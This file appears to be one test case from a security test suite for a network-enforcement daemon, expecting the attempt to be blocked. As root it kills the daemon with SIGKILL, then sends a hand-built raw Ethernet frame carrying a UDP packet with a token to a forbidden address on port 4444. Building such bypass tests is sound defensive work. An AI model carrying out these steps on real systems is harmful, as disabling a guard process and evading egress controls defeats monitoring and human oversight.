#!/usr/bin/python3
# id: f06c_kill_packet
# title: root kills the daemon, and sends a frame by a packet socket
# needs: root
# stage: own
# expect: block
# why: the program at an interface is held by the daemon, unless its link is pinned as well
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
def f():
    p = E('GOVERND_PID')
    if p: os.kill(int(p), 9); time.sleep(1)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); s.bind(('v0', 0)); s.send(b'\xff' * 6 + b'\2' * 6 + b'\x08\0' + ip4(myip(), FORB, 17, udp4(myip(), FORB, 4444, P_UDP, TOK.encode())))
attempt(f, chan=('udp', 'pkt'))
